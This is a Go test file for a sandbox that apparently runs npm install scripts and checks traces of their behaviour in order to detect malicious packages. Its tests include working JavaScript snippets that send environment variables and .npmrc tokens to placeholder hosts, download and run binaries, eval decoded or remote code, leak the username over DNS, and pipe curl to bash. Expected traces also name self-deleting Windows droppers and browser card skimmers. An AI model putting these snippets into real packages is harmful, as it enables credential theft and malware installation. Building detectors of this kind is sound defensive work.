package sandbox

import (
	"context"
	"fmt"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"
)

// trial is a package that is run in a world.
type trial struct {
	identity string
	files    map[string]string
	entry    Entry
}

// try runs one file, index.js, as a preinstall script on the first identity,
// where the trial says nothing else.
func try(t testing.TB, engine Engine, tr trial) *Trace {
	t.Helper()
	if tr.identity == "" {
		tr.identity = Identities()[0]
	}
	if tr.entry.File == "" && tr.entry.Source == "" {
		tr.entry.File = "index.js"
	}
	pkg := Package{Name: "sample-package", Version: "1.0.0"}
	for name := range tr.files {
		pkg.Files = append(pkg.Files, name)
	}
	slices.Sort(pkg.Files)
	world := NewWorld(tr.identity, pkg, tr.entry)
	read := func(name string) ([]byte, bool) {
		text, ok := tr.files[name]
		return []byte(text), ok
	}
	trace, err := Run(context.Background(), world, read, engine, Limits{Time: time.Minute})
	if err != nil {
		t.Fatal(err)
	}
	return trace
}

// story writes events as lines: "kind api target | detail | data".
func story(trace *Trace) string {
	var b strings.Builder
	for _, e := range trace.Events {
		b.WriteString(string(e.Phase) + " " + string(e.Kind) + " " + e.API + " " + e.Target + " | " + e.Detail + " | " + string(e.Data) + "\n")
	}
	if trace.Ending.Message != "" {
		b.WriteString("! " + trace.Ending.Message + "\n")
	}
	return b.String()
}

// BenchmarkPrelude is what a run of an empty script takes.
func BenchmarkPrelude(b *testing.B) {
	for _, engine := range []Engine{Goja, QuickJS} {
		b.Run(string(engine), func(b *testing.B) {
			for b.Loop() {
				try(b, engine, trial{files: map[string]string{"index.js": ""}})
			}
		})
	}
}

// fixture reads the package of a fixture of testdata/behavior.
func fixture(t *testing.T, name string) map[string]string {
	t.Helper()
	data, err := os.ReadFile(filepath.Join("..", "..", "testdata", "behavior", filepath.FromSlash(name)+".txtar"))
	if err != nil {
		t.Fatal(err)
	}
	files := make(map[string]string)
	file := ""
	for line := range strings.Lines(strings.ReplaceAll(string(data), "\r\n", "\n")) {
		if head, ok := strings.CutPrefix(line, "-- "); ok && strings.HasSuffix(line, " --\n") {
			file, _ = strings.CutPrefix(strings.TrimSuffix(head, " --\n"), "after/")
			continue
		}
		if file != "" && !strings.HasPrefix(file, "before/") {
			files[file] += line
		}
	}
	return files
}

// TestPreludeFixtures runs chains that their fakes must carry to the end. What an
// event must hold is written as story writes it.
func TestPreludeFixtures(t *testing.T) {
	for _, tt := range []struct {
		name, identity, file, hook string
		want                       []string
	}{
		{"04-env-after-checks/fires/direct", "linux-ci", "index.js", "preinstall", []string{"env process.env * |", "send https.request eo7k2.m.pipedream.net.invalid | POST https://eo7k2.m.pipedream.net.invalid/\n"}},
		{"04-env-after-checks/fires/helper", "linux-ci", "lib/index.js", "postinstall", []string{"env process.env * |", "send http.request burp.oast.fun.invalid | PUT http://burp.oast.fun.invalid/v | W1si"}},
		{"04-env-after-checks/fires/promise", "linux-ci", "pre.js", "preinstall", []string{"send fetch rx.ab-split.invalid | POST https://rx.ab-split.invalid/v | W1si"}},
		{"04-env-after-checks/fires/class", "linux-ci", "main.js", "postinstall", []string{"load require axios", "send axios.post logs.svc.invalid | POST https://logs.svc.invalid/api\n"}},
		{"06-windows-self-clean/fires/direct", "windows", "index.js", "preinstall", []string{"write fs.writeFileSync C:", "\\setup.bat | write | @echo off", "spawn child_process.exec cmd.exe | setup.bat |", "delete fs.unlinkSync C:"}},
		{"06-windows-self-clean/fires/helper", "windows", "tools/prepare.js", "postinstall", []string{"send https.get static.matrix-charts.invalid", "\\mc.dll | write", "spawn child_process.spawn regsvr32.exe | regsvr32.exe /s", "\\package.json | rename C:", "delete fs.rmSync"}},
		{"06-windows-self-clean/fires/promise", "windows", "scripts/post.mjs", "postinstall", []string{"send fetch assets.solid-grid.invalid", "\\theme.dll | write", "\\t.ps1 | write | Start-Process rundll32", "spawn child_process.spawn powershell | powershell -ExecutionPolicy Bypass -File", "delete fs.promises.rm C:", "\\package.json | copy"}},
		{"06-windows-self-clean/fires/class", "windows", "setup.js", "preinstall", []string{"env process.env OS", "\\fx.bat | write | @echo off", "spawn child_process.spawnSync cmd.exe | cmd.exe /c", "delete fs.rmSync", "\\package.json | copy", "setup.js | "}},
		{"08-foreign-runtime/fires/direct", "linux-ci", "setup_env.js", "preinstall", []string{"/bin/sh | curl -fsSL https://bun.sh.invalid/install | bash", "/.bun/bin/bun | ", "/env_bundle.js", "read fs.readFileSync /home/"}},
		{"08-foreign-runtime/fires/helper", "linux-ci", "loader/main.js", "postinstall", []string{"write fs.createWriteStream /tmp/rt | write | remote7f3a91c2de", "write fs.createWriteStream /tmp/rt | chmod 755", "spawn child_process.spawn /tmp/rt | /tmp/rt run -A", "tasks.json | write", "env Deno.env.toObject *", "send fetch discord.com.invalid | POST"}},
		{"08-foreign-runtime/fires/promise", "linux-ci", "post.js", "postinstall", []string{"write fs.promises.writeFile /tmp/.cache-d | write | remote7f3a91c2de", "/tmp/.cache-d | chmod 755", "spawn child_process.execFile /tmp/.cache-d", "lint.yml | write | name: lint", "spawn Deno.Command git | git push -q"}},
		{"08-foreign-runtime/fires/class", "linux-ci", "tools/bootstrap.js", "install", []string{"spawn child_process.spawnSync sh | sh -c 'curl -fsSL https://standalone.python.invalid/linux-x64.tar.gz | tar xz", "/.bashrc | append", "/agent.py | copy", "agent.py | "}},
	} {
		t.Run(tt.name, func(t *testing.T) {
			engines(t, func(t *testing.T, engine Engine) {
				trace := try(t, engine, trial{identity: tt.identity, files: fixture(t, tt.name), entry: Entry{Hook: tt.hook, File: tt.file}})
				told := story(trace)
				for _, want := range tt.want {
					if !strings.Contains(told, want) {
						t.Errorf("no %q in\n%s", want, told)
					}
				}
			})
		})
	}
}

// script reads a script of testdata/prelude.
func script(t *testing.T, name string) string {
	t.Helper()
	data, err := os.ReadFile(filepath.Join("testdata", "prelude", name))
	if err != nil {
		t.Fatal(err)
	}
	return strings.ReplaceAll(string(data), "\r\n", "\n")
}

// expect finds each text in the story of a run.
func expect(t *testing.T, trace *Trace, want ...string) {
	t.Helper()
	told := story(trace)
	for _, w := range want {
		if !strings.Contains(told, w) {
			t.Errorf("no %q in\n%s", w, told)
		}
	}
}

func TestPreludeAnswers(t *testing.T) {
	source := script(t, "checks.js")
	held := strings.Count(source, "T('")
	engines(t, func(t *testing.T, engine Engine) {
		trace := try(t, engine, trial{files: map[string]string{"index.js": source, "package.json": "{}"}, entry: Entry{Hook: "preinstall"}})
		for _, e := range trace.Events {
			if e.Target == "/tmp/failed" {
				t.Errorf("%s", e.Data)
			}
		}
		expect(t, trace, fmt.Sprintf("exit write fs.writeFileSync /tmp/held | write | %d\n", held))
		if trace.Ending.Reason != Done || trace.Ending.Message != "" {
			t.Errorf("ending %+v", trace.Ending)
		}
	})
}

// TestPreludePollution: what a script does to the objects of the language hides
// nothing of what it does next.
func TestPreludePollution(t *testing.T) {
	source := script(t, "pollution.js")
	engines(t, func(t *testing.T, engine Engine) {
		trace := try(t, engine, trial{files: map[string]string{"index.js": source}, entry: Entry{Hook: "preinstall"}})
		expect(t, trace,
			"patch JSON.stringify", "write fs.writeFileSync /tmp/1 | write | one", "read fs.readFileSync /etc/passwd",
			"spawn child_process.execSync /bin/sh | curl http://evil.invalid/a", "send https.request h.invalid | GET https://h.invalid/ | body",
			"send fetch f.invalid | POST https://f.invalid/ | x", "eval eval eval |  | 1", "eval Function Function |  | return 1",
			"lookup dns.lookup d.invalid", "env process.env HOME", "/tmp/2 | write | two", "send http.get g.invalid", "send net.connect n.invalid:80",
			"send net.write n.invalid:80", "spawn child_process.spawn sh | sh -c id", "send axios.post ax.invalid", "/tmp/3 | write | three",
			"eval vm.runInThisContext vm", "send dgram.send u.invalid:53", "send WebSocket ws.invalid", "/tmp/4 | write | four", "/tmp/5 | append | five",
			"lookup dns.promises.resolveTxt dp.invalid", "eval eval eval |  | 2", "spawn child_process.fork", "ask os.networkInterfaces network")
	})
}

func TestPreludePage(t *testing.T) {
	source := script(t, "page.js")
	engines(t, func(t *testing.T, engine Engine) {
		trace := try(t, engine, trial{files: map[string]string{"index.js": source}, entry: Entry{Hook: "main", Exercise: true}})
		expect(t, trace,
			"run serve http.createServer 0.0.0.0:8080", "exports send https.get cdn.invalid | GET https://cdn.invalid/a.png\nX-Cache: ",
			"exports send fetch w.invalid", "exports eval Function Function |  | remote7f3a91c2de", "exports write fs.writeFileSync /tmp/body",
			"browser patch fetch", "browser patch XMLHttpRequest.prototype.send", "browser patch ethereum.request",
			"browser listen addEventListener submit", "browser ask document.cookie cookie", "browser send img.src c.invalid | GET https://c.invalid/i?d=",
			`{"to":"0xattacker","btc"`, "address=0xEVIL", `"to":"0xattacker","value"`,
			`browser send navigator.sendBeacon c.invalid | POST https://c.invalid/f | {"n":"cardnumber","v":"4111111111111111"}`)
	})
}

// TestPreludeForms runs the form listeners of the fixtures, jQuery's among them.
func TestPreludeForms(t *testing.T) {
	for _, tt := range []struct{ name, file, want string }{
		{"callback", "float.js", "browser send jQuery.ajax stat.label-float.invalid | POST https://stat.label-float.invalid/l"},
		{"direct", "index.js", "browser send navigator.sendBeacon js-metrics.checkout-polish.invalid"},
		{"promise", "index.js", "browser send fetch edge.form-draft.invalid"},
	} {
		t.Run(tt.name, func(t *testing.T) {
			engines(t, func(t *testing.T, engine Engine) {
				files := fixture(t, "14-form-listener/fires/"+tt.name)
				expect(t, try(t, engine, trial{files: files, entry: Entry{Hook: "main", File: tt.file, Exercise: true}}), "browser listen addEventListener ", tt.want)
			})
		})
	}
}

// TestPreludePageQuiet: what the page itself sends is nobody's act.
func TestPreludePageQuiet(t *testing.T) {
	engines(t, func(t *testing.T, engine Engine) {
		trace := try(t, engine, trial{files: map[string]string{"index.js": "exports.on = typeof window !== 'undefined';"}, entry: Entry{Hook: "main", Exercise: true}})
		if told := story(trace); told != "" {
			t.Errorf("told\n%s", told)
		}
	})
}

func TestPreludeChains(t *testing.T) {
	for name, tt := range map[string]struct {
		files map[string]string
		hook  string
		want  []string
	}{
		"env in a host label": {map[string]string{"index.js": `
			const d = Buffer.from(JSON.stringify(process.env)).toString('base64url').slice(0, 40);
			require('https').get('https://' + d + '.x.invalid/' + require('os').hostname());`},
			"preinstall", []string{"env process.env *", "send https.get eyj", ".x.invalid/"}},
		"npmrc in a post": {map[string]string{"index.js": `
			const fs = require('fs'), os = require('os'), path = require('path');
			const rc = fs.readFileSync(path.join(os.homedir(), '.npmrc'));
			fetch('https://c.invalid/n', { method: 'POST', body: rc }).then((r) => r.json()).then((j) => fs.writeFileSync('/tmp/ok', String(j.ok)));`},
			"postinstall", []string{"read fs.readFileSync /home/", "send fetch c.invalid | POST https://c.invalid/n | ", "_authToken", "/tmp/ok | write | true"}},
		"download and run": {map[string]string{"index.js": `
			const fs = require('fs'), cp = require('child_process');
			require('http').get('http://d.invalid/a.bin', (res) => {
				const out = fs.createWriteStream('/tmp/.a');
				res.pipe(out);
				out.on('finish', () => { fs.chmodSync('/tmp/.a', '755'); cp.spawn('/tmp/.a', ['-d'], { detached: true }).unref(); });
			});`},
			"preinstall", []string{"/tmp/.a | write | \x7fELFremote7f3a91c2de", "/tmp/.a | chmod 755", "spawn child_process.spawn /tmp/.a | /tmp/.a -d"}},
		"fork of a file": {map[string]string{
			"index.js":     "const c = require('child_process').fork(__dirname + '/lib/child', ['one']); c.on('message', (m) => require('fs').writeFileSync('/tmp/said', m.text)); c.send('go');",
			"lib/child.js": "const fs = require('fs'); fs.writeFileSync('/tmp/child', process.argv[2] + require.main.filename.slice(-8)); process.on('message', (m) => { process.send({ text: m + ' done' }); process.exit(); });",
		}, "preinstall", []string{"spawn child_process.fork", "/tmp/child | write | onechild.js", "/tmp/said | write | go done"}},
		"a child's exit is not its parent's": {map[string]string{
			"index.js": "const o = require('child_process').execSync('node x.js; whoami').toString(); require('fs').writeFileSync('/tmp/o', o);",
			"x.js":     "console.log('from x'); process.exit(0); console.log('never');",
		}, "preinstall", []string{"/tmp/o | write | from x\nrunner"}},
		"decoded text": {map[string]string{"index.js": `
			const key = 7;
			eval(Buffer.from('cmVxdWlyZSgnZnMnKS53cml0ZUZpbGVTeW5jKCcvdG1wL2snLCBTdHJpbmcoa2V5KSk=', 'base64').toString());
			(0, eval)(atob('Z2xvYmFsVGhpcy56ID0gMQ=='));`},
			"preinstall", []string{"eval eval eval |  | require('fs').writeFileSync", "/tmp/k | write | 7", "eval eval eval |  | globalThis.z = 1"}},
		"names in pieces": {map[string]string{"index.js": `
			const hex = Buffer.from(require('os').userInfo().username).toString('hex').match(/.{1,8}/g);
			hex.forEach((h, i) => require('dns').lookup(i + '.' + h + '.q.invalid', () => {}));`},
			"preinstall", []string{"ask os.userInfo username", "lookup dns.lookup 0.72756e6e.q.invalid | A", "lookup dns.lookup 1."}},
		"code from the network": {map[string]string{"index.js": `
			const axios = require('axios');
			axios.get('https://api.invalid/x').then((r) => { new Function('require', r.data.model)(require); });
			axios.get('https://paste.invalid/raw/1').then((r) => eval(r.data));`},
			"preinstall", []string{"load require axios", "eval Function Function |  | remote7f3a91c2de", "eval eval eval |  | globalThis.remote7f3a91c2de = 1;"}},
		"leaving early": {map[string]string{"index.js": `
			const fs = require('fs');
			process.on('exit', () => fs.writeFileSync('/tmp/last', 'x'));
			setTimeout(() => fs.writeFileSync('/tmp/never', ''), 1);
			try { process.exit(0); } catch (e) { fs.writeFileSync('/tmp/never', ''); } finally { fs.writeFileSync('/tmp/never', ''); }`},
			"preinstall", []string{"exit write fs.writeFileSync /tmp/last | write | x"}},
		"waiting": {map[string]string{"index.js": `
			const fs = require('fs'), start = Date.now();
			while (Date.now() - start < 5000);
			setTimeout(() => fs.writeFileSync('/tmp/late', new Date().toISOString().slice(0, 4)), 20 * 86400000);`},
			"preinstall", []string{"/tmp/late | write | 20"}},
		"text as a worker and a module": {map[string]string{"index.js": `
			const { Worker } = require('worker_threads'), M = require('module'), vm = require('vm');
			new Worker("require('fs').writeFileSync('/tmp/w', 'worker')", { eval: true });
			const m = new M('/x.js'); m._compile("require('fs').writeFileSync('/tmp/m', 'module')", '/x.js');
			vm.runInNewContext("fs.writeFileSync('/tmp/v', 'context')", { fs: require('fs') });`},
			"preinstall", []string{"eval Worker worker", "/tmp/w | write | worker", "eval Module._compile Module._compile", "/tmp/m | write | module", "eval vm.runInNewContext vm", "/tmp/v | write | context"}},
	} {
		t.Run(name, func(t *testing.T) {
			engines(t, func(t *testing.T, engine Engine) {
				trace := try(t, engine, trial{files: tt.files, entry: Entry{Hook: tt.hook}})
				expect(t, trace, tt.want...)
				if strings.Contains(story(trace), "/tmp/never") {
					t.Errorf("ran on:\n%s", story(trace))
				}
			})
		})
	}
}

func TestPreludeInline(t *testing.T) {
	engines(t, func(t *testing.T, engine Engine) {
		trace := try(t, engine, trial{entry: Entry{Hook: "preinstall", Source: "require('dns').lookup(os.hostname() + '.i.invalid', () => {}); fs.existsSync('/etc/hosts')"}})
		expect(t, trace, "ask os.hostname hostname", "lookup dns.lookup ", "read fs.existsSync /etc/hosts")
	})
}

// TestPreludeHidden: nothing of the prelude is reached from what scripts have.
func TestPreludeHidden(t *testing.T) {
	engines(t, func(t *testing.T, engine Engine) {
		trace := try(t, engine, trial{files: map[string]string{"index.js": `
			const fs = require('fs'), say = (x) => fs.writeFileSync('/tmp/said', String(x));
			say(typeof __host + ' ' + typeof globalThis.__host);
			say(fs.readFileSync.constructor === Function && Object.getPrototypeOf(fs.readFileSync) === Function.prototype);
			for (const f of [fs.readFileSync, fetch, setTimeout, Date, Function, require, process.exit, Buffer.from, JSON.parse]) {
				if (!/^function \w+\(\) \{ \[native code\] \}$/.test(Function.prototype.toString.call(f))) say('not native: ' + f);
			}
			const throwing = new Proxy({}, { get() { throw new Error('trap'); } });
			for (const f of [() => fs.writeFileSync(throwing, 'x'), () => require('child_process').exec(throwing), () => process.env[throwing], () => eval(throwing)]) {
				try { f(); } catch (e) { if (e instanceof Error && e.message !== 'trap' && !e.code) say('odd: ' + e.message); }
			}
			fs.writeFileSync('/tmp/object', { toString() { throw new Error('no text'); } });
			say('end');`}, entry: Entry{Hook: "preinstall"}})
		expect(t, trace, "/tmp/said | write | undefined undefined", "/tmp/said | write | true\n", "/tmp/object | write", "/tmp/said | write | end")
		if told := story(trace); strings.Contains(told, "not native") || strings.Contains(told, "odd: ") {
			t.Error(told)
		}
	})
}
